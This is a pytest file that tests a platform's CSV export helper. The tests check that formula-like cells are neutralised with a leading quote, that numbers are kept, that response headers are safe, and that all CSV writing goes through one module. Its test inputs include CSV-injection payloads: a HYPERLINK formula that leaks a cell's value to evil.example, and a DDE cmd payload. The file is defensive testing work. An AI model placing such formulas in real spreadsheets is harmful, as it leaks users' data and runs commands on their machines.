"""CSV exports: formulas neutralised, numbers kept, one writer for the whole platform."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from services.common.spreadsheet import csv_response, csv_text, safe_cell

ROOT = Path(__file__).resolve().parents[2]


def read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


class TestSafeCell:
    @pytest.mark.parametrize(
        "attack",
        [
            '=HYPERLINK("https://evil.example/?leak="&B3,"Hà Nội")',
            "=cmd|' /C calc'!A0",
            "-2+3",
            "+1",
            "@SUM(1)",
            "\t=1",
            "\r=1",
            "\n=1",
            " =1+1",
            "\u00a0=1+1",
            "\uff1d1+1",
            "-5",
        ],
    )
    def test_text_that_a_spreadsheet_would_run_gets_a_quote(self, attack):
        assert safe_cell(attack) == "'" + attack

    @pytest.mark.parametrize(
        "text", ["BHXH tỉnh Phú Yên", "/tin-tuc/a", "a=b", "1-2", "", "'already"]
    )
    def test_other_text_is_unchanged(self, text):
        assert safe_cell(text) == text

    @pytest.mark.parametrize("number", [-5, 0, 3, -2.5, Decimal("-1234.50")])
    def test_numbers_stay_numbers(self, number):
        assert safe_cell(number) == number

    def test_other_values(self):
        assert safe_cell(None) == ""
        assert safe_cell(True) == "true"
        assert safe_cell(date(2026, 11, 20)) == "2026-11-20"


class TestCsv:
    def test_rows_read_back_neutralised_and_negative_numbers_intact(self):
        text = csv_text(
            ["path", "amount"],
            [["=cmd|' /C calc'!A0", -5], ["-2+3", Decimal("-0.5")], ["@SUM(1)", 7]],
        )
        assert read(text) == [
            ["path", "amount"],
            ["'=cmd|' /C calc'!A0", "-5"],
            ["'-2+3", "-0.5"],
            ["'@SUM(1)", "7"],
        ]
        assert "\r\n" in text

    def test_a_tab_led_cell_stays_one_quoted_text_cell(self):
        assert read(csv_text(["a", "b"], [["\t=1", 1]]))[1] == ["'\t=1", "1"]

    def test_response_is_a_private_utf8_attachment(self):
        response = csv_response(["tên"], [["Hà Nội"]], filename='a"b\r\nc.csv')
        assert response.media_type == "text/csv; charset=utf-8"
        assert response.headers["content-disposition"] == 'attachment; filename="a_b__c.csv"'
        assert response.headers["cache-control"] == "private, no-cache"
        assert bytes(response.body).startswith("\ufeff".encode())
        assert read(bytes(response.body).decode("utf-8")) == [["tên"], ["Hà Nội"]]


def test_no_module_writes_csv_on_its_own():
    """Every CSV goes through services.common.spreadsheet, now and later."""
    offenders = []
    for package in ("services", "gateway"):
        for path in (ROOT / package).rglob("*.py"):
            if path == ROOT / "services" / "common" / "spreadsheet.py":
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                names = (
                    [a.name for a in node.names]
                    if isinstance(node, ast.Import)
                    else [node.module or ""]
                    if isinstance(node, ast.ImportFrom)
                    else []
                )
                if any(name == "csv" or name.startswith("csv.") for name in names):
                    offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
